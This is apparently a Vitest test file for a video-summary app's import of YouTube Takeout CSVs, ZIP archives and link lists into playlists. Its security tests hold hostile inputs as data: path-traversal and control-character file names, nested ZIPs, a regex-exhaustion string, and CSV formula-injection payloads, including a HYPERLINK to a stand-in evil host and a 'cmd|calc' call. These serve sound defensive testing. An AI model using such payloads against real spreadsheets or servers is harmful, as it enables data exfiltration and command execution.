// Ann brings a YouTube Takeout or a list of links: each video waits in a playlist and
// uses her allowance in its turn.
import { zipSync } from 'fflate'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { LibraryImport } from '#contract/library/library-import.ts'
import type { Playlist, PlaylistView } from '#contract/playlists/playlists.ts'
import { newPerson, startTestServer, type TestServer } from '#tests/deps.ts'
import { readVideoLists } from './read-links.ts'

let server: TestServer
beforeAll(async () => {
  server = await startTestServer({ environment: { SIGN_UPS_PER_HOUR: '1000' } })
})
afterAll(() => server.close())

type Person = ReturnType<typeof newPerson>
async function importFile(
  person: Person,
  body: NonNullable<RequestInit['body']>,
  name: string,
): Promise<LibraryImport> {
  const response = await person.send(`/api/import?name=${encodeURIComponent(name)}`, {
    method: 'POST',
    body,
  })
  expect(response.status).toBe(202)
  const read = async () => (await (await person.send('/api/import')).json()) as LibraryImport
  await expect.poll(async () => (await read()).state).toBe('done')
  return read()
}
const listPlaylists = async (person: Person) =>
  ((await (await person.send('/api/playlists?filter=mine')).json()) as { items: Playlist[] }).items

const english =
  'Video ID,Playlist Video Creation Timestamp\ndQw4w9WgXcQ,2024-01-02T10:00:00+00:00\njNQXAC9IVRw,2024-01-03T10:00:00+00:00\n'
const german =
  '\uFEFFVideo-ID,Zeitstempel der Erstellung des Playlist-Videos\r\ndQw4w9WgXcQ,2024-01-02T10:00:00+00:00\r\n'
const older = [
  'Playlist ID,Channel ID,Time Created,Time Updated,Title,Description,Visibility',
  'PLbees12345,UCaaaaaaaaaaaaaaaaaaaaaa,2020-01-01 00:00:00 UTC,2020-01-01 00:00:00 UTC,"Bees, and ""more""",,Private',
  '',
  'Video ID,Time Added',
  '  dQw4w9WgXcQ,2020-05-05 10:00:00 UTC  ',
].join('\n')

test.each([
  ['English', english, 'Watch later-videos.csv', 'Watch later', 2],
  [
    'German',
    german,
    'Takeout/YouTube und YouTube Music/Playlists/Später ansehen-Videos.csv',
    'Später ansehen',
    1,
  ],
  ['an older format', older, 'anything.csv', 'Bees, and "more"', 1],
])(
  'the videos of a Takeout in %s wait in a playlist with its name',
  async (_, csv, file, name, videos) => {
    const ann = newPerson(server)
    await ann.signUpConfirmed()
    const done = await importFile(ann, csv, file)
    expect(done).toMatchObject({
      source: 'takeout',
      counts: { videos, unreadable: 0 },
      playlists: [{ name }],
    })
    const view = (await (
      await ann.send(`/api/playlists/${done.playlists[0]!.id}`)
    ).json()) as PlaylistView
    expect(view).toMatchObject({ name, isPublic: false, imports: { length: videos } })
    expect(view.imports[0]).toMatchObject({ videoId: 'dQw4w9WgXcQ' })
  },
)

test('a ZIP of a Takeout becomes a playlist for each list', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  const file = (text: string) => new TextEncoder().encode(text)
  const packed = zipSync({
    'Takeout/playlists/playlists.csv': file('Playlist ID,Title\nPLx,Bees'),
    'Takeout/playlists/Watch later-videos.csv': file(english),
    'Takeout/playlists/Music-videos.csv': file(english),
    'Takeout/archive_browser.html': file('<html>https://youtu.be/dQw4w9WgXcQ</html>'),
  })
  expect((await importFile(ann, packed as Uint8Array<ArrayBuffer>, 'takeout.zip')).source).toBe(
    'takeout',
  )
  expect((await listPlaylists(ann)).map(({ name }) => name).sort()).toEqual([
    'Music',
    'Watch later',
  ])
})

test('a ZIP within a ZIP is not unpacked, and the person is told what to do', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  const inner = zipSync({ 'Takeout/playlists/Moss-videos.csv': new TextEncoder().encode(english) })
  const nest = (depth: number): Uint8Array =>
    depth === 0 ? inner : zipSync({ 'takeout-001.zip': nest(depth - 1) })
  for (const depth of [1, 20]) {
    const body = nest(depth) as Uint8Array<ArrayBuffer>
    const response = await ann.send('/api/import?name=takeout.zip', { method: 'POST', body })
    expect(response.status).toBe(422)
    expect(await response.json()).toMatchObject({
      error: { code: 'import_unreadable', message: expect.stringContaining('Unpack yours') },
    })
  }
  const beside = zipSync({ 'a.zip': inner, 'Heath-videos.csv': new TextEncoder().encode(english) })
  const { playlists } = await importFile(ann, beside as Uint8Array<ArrayBuffer>, 'takeout.zip')
  expect(playlists.map(({ name }) => name)).toEqual(['Heath'])
})

test('hostile names of files in a ZIP become plain names of playlists', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  const names = [
    '../../etc/passwd',
    'C:\\Windows\\con',
    'x'.repeat(5000),
    'a\0b\nc',
    '\u202egpj.exe',
    '__proto__',
    '/',
    '',
  ]
  const packed = zipSync(
    Object.fromEntries(
      names.map((name) => [`${name}-videos.csv`, new TextEncoder().encode(english)]),
    ),
  )
  const { playlists, counts } = await importFile(
    ann,
    packed as Uint8Array<ArrayBuffer>,
    '\u202e../\0.zip',
  )
  expect(counts).toMatchObject({ unreadable: 0 })
  // The last two have no name, and become one list.
  expect(playlists).toHaveLength(names.length - 1)
  for (const { name } of playlists) {
    expect(name).toMatch(/^[^/\\\p{Cc}\u202a-\u202e]{1,200}$/u)
    expect(name).not.toContain('videos.csv')
  }
})

test('a list of links waits in one playlist, each video once, and what is no video is named', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  await ann.summarize({ video: 'dQw4w9WgXcQ' })
  const links =
    'https://youtu.be/dQw4w9WgXcQ\nLook: https://www.youtube.com/watch?v=jNQXAC9IVRw !\n\njNQXAC9IVRw\nhttps://example.org\n'
  const { counts, playlists, source } = await importFile(ann, links, 'links.txt')
  expect({ source, ...counts }).toMatchObject({
    source: 'links',
    videos: 1,
    alreadyHere: 1,
    unreadable: 1,
    unreadableNames: ['https://example.org'],
  })
  const view = (await (await ann.send(`/api/playlists/${playlists[0]!.id}`)).json()) as PlaylistView
  expect(view.imports).toHaveLength(2)
  expect(view.items.map(({ videoId }) => videoId)).toEqual(['dQw4w9WgXcQ'])
  expect(view.imports.find(({ videoId }) => videoId === 'dQw4w9WgXcQ')?.state).toBe('done')
})

test('a long list is divided, and one that is too long is refused', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  const links = (count: number) =>
    Array.from({ length: count }, (_, index) => `v${String(index).padStart(10, '0')}`).join('\n')
  const { playlists } = await importFile(ann, links(501), 'many.txt')
  expect(playlists).toHaveLength(2)
  expect(playlists[1]?.name).toBe(`${playlists[0]?.name} (2)`)
  const refused = await ann.send('/api/import', { method: 'POST', body: links(5001) })
  expect(refused.status).toBe(413)
})

test('formulas and markup in a CSV stay words', async () => {
  const harmful =
    '=HYPERLINK("https://evil.example?v="&A1),2024-01-01T00:00:00Z\n+cmd|calc!A1,2024-01-01\n-dQw4w9WgXcQ,2024-01-01T00:00:00Z\n"dQw4w9WgXcQ",2024-01-01T00:00:00Z'
  expect(await readVideoLists(harmful, '=1+1<b>-videos.csv', { left: 100 })).toEqual([
    {
      kind: 'takeout',
      name: '=1+1<b>',
      videoIds: ['dQw4w9WgXcQ'],
      unreadable: 0,
      unreadableNames: [],
    },
  ])
})

test('lists of one name become one playlist, and none is refused because another one has its name', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  const file = (text: string) => new TextEncoder().encode(text)
  const ids = (letter: string, count: number) =>
    Array.from({ length: count }, (_, index) => `${letter}${String(index).padStart(10, '0')}`)
  const links = zipSync({
    'a.txt': file(ids('a', 300).join('\n')),
    'b.txt': file(ids('b', 300).join('\n')),
  })
  const done = await importFile(ann, links as Uint8Array<ArrayBuffer>, 'links.zip')
  const [first] = done.playlists
  expect(done).toMatchObject({
    counts: { videos: 600 },
    playlists: [{}, { name: `${first?.name} (2)` }],
  })

  const bob = newPerson(server)
  await bob.signUpConfirmed()
  const rows = (letter: string, count: number) =>
    file(
      ids(letter, count)
        .map((id) => `${id},2024-01-02T10:00:00+00:00`)
        .join('\n'),
    )
  const long = 'Bees '.repeat(40)
  const takeout = zipSync({
    'here/Bees-videos.csv': rows('a', 501),
    'there/Bees-videos.csv': rows('b', 1),
    'here/Bees (2)-videos.csv': rows('c', 500),
    [`here/${long}1-videos.csv`]: rows('d', 300),
    [`here/${long}2-videos.csv`]: rows('e', 300),
  })
  const { playlists } = await importFile(bob, takeout as Uint8Array<ArrayBuffer>, 'takeout.zip')
  const cut = long.slice(0, 115).trim()
  expect(playlists.map(({ name }) => name)).toEqual([
    'Bees',
    'Bees (3)',
    'Bees (2)',
    cut,
    `${cut} (2)`,
  ])
})

test('lines that are no video are counted, and five hundred of them are named', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  const words = Array.from({ length: 700 }, (_, index) => `no video ${index}`)
  const long = `https://youtu.be/jNQXAC9IVRw ${'x'.repeat(300)}`
  const { counts } = await importFile(ann, ['dQw4w9WgXcQ', long, ...words].join('\n'), 'links.txt')
  expect(counts).toMatchObject({ videos: 2, unreadable: 700 })
  expect(counts.unreadableNames).toHaveLength(500)
})

test('twenty thousand lines are read of all files together, and other requests go on meanwhile', async () => {
  const ann = newPerson(server)
  await ann.signUpConfirmed()
  const file = (lines: number) =>
    new TextEncoder().encode(`dQw4w9WgXcQ${'\nno video'.repeat(lines - 1)}`)
  const many = zipSync({ 'a.txt': file(10_000), 'b.txt': file(10_001) })
  const refused = await ann.send('/api/import', {
    method: 'POST',
    body: many as Uint8Array<ArrayBuffer>,
  })
  expect(refused.status).toBe(413)
  expect(await refused.text()).toContain('more than 20,000 lines')

  let ticks = 0
  let isRead = false
  const tick = () => {
    ticks++
    if (!isRead) setImmediate(tick)
  }
  setImmediate(tick)
  const harmful = `dQw4w9WgXcQ\n${`${')'.repeat(299)}a\n`.repeat(1998)}`
  expect(await readVideoLists(harmful, 'links.txt', { left: 2000 })).toMatchObject([
    { unreadable: 1998 },
  ])
  isRead = true
  expect(ticks).toBeGreaterThanOrEqual(19)
})

test('a long description does not hide the title of a playlist', async () => {
  const described = older.replace('""",,', `""",${'about bees '.repeat(40)},`)
  expect(described).not.toBe(older)
  expect(await readVideoLists(described, 'anything.csv', { left: 100 })).toMatchObject([
    { name: 'Bees, and "more"' },
  ])
})
